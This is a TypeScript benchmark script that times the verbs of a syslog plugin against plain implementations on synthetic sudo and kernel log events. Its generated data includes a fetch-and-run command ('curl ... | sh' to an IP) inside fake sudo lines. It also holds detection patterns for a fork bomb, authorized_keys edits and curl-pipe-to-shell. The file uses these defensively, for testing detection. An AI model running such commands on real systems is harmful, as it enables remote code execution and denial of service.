/**
 * What the verbs of syslog cost over size, each beside what a first script does, in one run.
 *
 *     npx node --expose-gc --conditions=pivotkit-source test/bench/syslog.ts [most rows]
 *
 * The peer's figures hold none for syslog (../shared/oracle/TIMINGS.md).
 */
import { createSession, seededRandom, Table } from '@pivotkit/core';
import { syslog } from '@pivotkit/plugin-syslog';
import { cpuSeconds, showRatio, showSeconds } from './cpu-time.ts';

const [most = 1_000_000] = process.argv.slice(2).map(Number);
const random = seededRandom(1);
const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
const users = Array.from({ length: 40 }, (_, i) => `user${i}`);
const hosts = Array.from({ length: 60 }, (_, i) => `web${i}`);
const programs = ['cat', 'ls', 'systemctl status', 'apt-get update', 'curl http://203.0.113.9/x.sh | sh', 'tail -f'];
const start = Date.UTC(2026, 0, 5);

/** Sessions of sudo, each three events: a command, an open and a close; every fourth event something else. */
function eventsOf(size: number) {
  const rows: { readonly at: number; readonly host: string; readonly program: string; readonly message: string }[] = [];
  for (let i = 0; rows.length < size; i++) {
    const [user, host, at] = [pick(users), pick(hosts), start + 700 * i];
    rows.push(
      { at, host, program: 'sudo', message: `${user} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/${pick(programs)} /srv/${i}` }, // prettier-ignore
      { at, host, program: 'sudo', message: `pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=1000)` }, // prettier-ignore
      { at: at + 400, host, program: 'kernel', message: `[${i}.1] device eth0 entered promiscuous mode ${i}` },
      { at: at + 9_000, host, program: 'sudo', message: 'pam_unix(sudo:session): session closed for user root' },
    );
  }
  return rows.slice(0, size);
}

const months = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(' ');

function lineOf({ at, host, program, message }: ReturnType<typeof eventsOf>[number]): string {
  const [date, time = ''] = new Date(at).toISOString().split('T');
  const [, month, day] = (date ?? '').split('-').map(Number);
  return `<86>${months[month! - 1]} ${String(day).padStart(2)} ${time.slice(0, 8)} ${host} ${program}[${at % 5_000}]: ${message}`;
}

/** One pattern for a line, an object for each, its time in a year that is given; their table. */
const plainLines = (lines: readonly string[]): Table<object> =>
  Table.fromRows(
    lines.map((line) => {
      const [, priority, time, host, program, processId, message] = /^<(\d+)>(\w{3} [ \d]\d \d\d:\d\d:\d\d) (\S+) (\S+?)(?:\[(\d+)\])?: (.*)$/.exec(line) ?? []; // prettier-ignore
      return { time: new Date(`2026 ${time} UTC`), priority: Number(priority), host, program, processId, message };
    }),
  );

interface Plain {
  readonly TimeGenerated: Date;
  readonly HostName: string;
  readonly SyslogMessage: string;
}

/** The last session that a host opened is that which it closes: overlapping ones are lost, and commands are not joined. */
function plainSessions(rows: readonly Plain[]): Table<object> {
  const open = new Map<string, { user: string | undefined; start: Date; end: Date | null }>();
  const sessions: object[] = [];
  for (const { TimeGenerated: time, HostName: host, SyslogMessage: message } of rows.toSorted(
    (left, right) => +left.TimeGenerated - +right.TimeGenerated,
  )) {
    const opened = /pam_unix\((\w+):session\): session opened for user (\S+) by (\w*)\(uid=\d+\)/.exec(message);
    const closed = /pam_unix\((\w+):session\): session closed for user (\S+)/.exec(message);
    if (opened !== null) open.set(host, { user: opened[3], start: time, end: null });
    if (closed !== null && open.has(host)) sessions.push({ ...open.get(host), host, end: time });
  }
  return Table.fromRows(sessions);
}

const patterns = [/.*authorized_keys.*/, /.*(wget|curl).*\|?.*sh.*/, /.*(:\(\)\{:\|:&\};:).*/, /.*(mv.*\/dev\/null).*/, /.*\/bin\/bash.*/]; // prettier-ignore
/** Five patterns that may stand anywhere, instead of 23 rules. */
const plainRisky = (rows: readonly Plain[]): number =>
  rows.filter(({ SyslogMessage: message }) => patterns.some((pattern) => pattern.test(message))).length;

/** Each event beside the tenth after it, by host. */
function plainBursts(rows: readonly Plain[]): number {
  let found = 0;
  for (const host of new Set(rows.map(({ HostName: name }) => name))) {
    const own = rows.filter(({ HostName: name }) => name === host).toSorted((left, right) => +left.TimeGenerated - +right.TimeGenerated); // prettier-ignore
    for (let i = 0; i + 9 < own.length; i++) if (+own[i + 9]!.TimeGenerated - +own[i]!.TimeGenerated <= 5_000) found++;
  }
  return found;
}

/** Each host with its rows filtered out of all. */
const plainHosts = (rows: readonly Plain[]): unknown[] =>
  [...new Set(rows.map(({ HostName: name }) => name))].map((host) => {
    const own = rows.filter(({ HostName: name }) => name === host);
    const times = own.map(({ TimeGenerated: time }) => +time);
    return [host, times.reduce((a, b) => Math.min(a, b)), times.reduce((a, b) => Math.max(a, b)), new Set(own.map(({ SyslogMessage: message }) => message)).size]; // prettier-ignore
  });

const session = await createSession({ plugins: [syslog] });
console.log('Processor time; in brackets how many times as long the plain way takes, in the same run');
console.log('rows        verb                 time        a row     plain way');
for (const size of [10_000, 100_000, 1_000_000].filter((rows) => rows <= most)) {
  const events = eventsOf(size);
  const lines = events.map(lineOf);
  const rows: Plain[] = events.map(({ at, host, message }) => ({ TimeGenerated: new Date(at), HostName: host, SyslogMessage: message })); // prettier-ignore
  const log: Table<object> = Table.fromRows(rows);
  const lineTable: Table<object> = Table.fromColumns({ line: lines });
  const ways = [
    ['syslog.lines', () => session.from(lineTable).verb('syslog.lines', { notAfter: new Date('2026-12-01T00:00:00Z') }).run(), () => plainLines(lines)], // prettier-ignore
    ['syslog.sessions', () => session.from(log).verb('syslog.sessions', {}).run(), () => plainSessions(rows)],
    ['syslog.risky', () => session.from(log).verb('syslog.risky', {}).run(), () => plainRisky(rows)],
    ['syslog.bursts', () => session.from(log).verb('syslog.bursts', { commandCol: 'SyslogMessage' }).run(), () => plainBursts(rows)], // prettier-ignore
    ['syslog.hostSummary', () => session.from(log).verb('syslog.hostSummary', {}).run(), () => plainHosts(rows)],
  ] as const;
  for (const [name, ours, plain] of ways) {
    globalThis.gc?.();
    const rounds = size > 100_000 ? 1 : 5;
    const seconds = await cpuSeconds(ours, rounds);
    const other = await cpuSeconds(plain, rounds);
    console.log(`${size.toLocaleString('en').padEnd(11)} ${name.padEnd(20)} ${showSeconds(seconds).padEnd(11)} ${`${((1e6 * seconds) / size).toFixed(2)} µs`.padEnd(9)} ${showRatio(other, seconds)}`); // prettier-ignore
  }
}
await session.close();
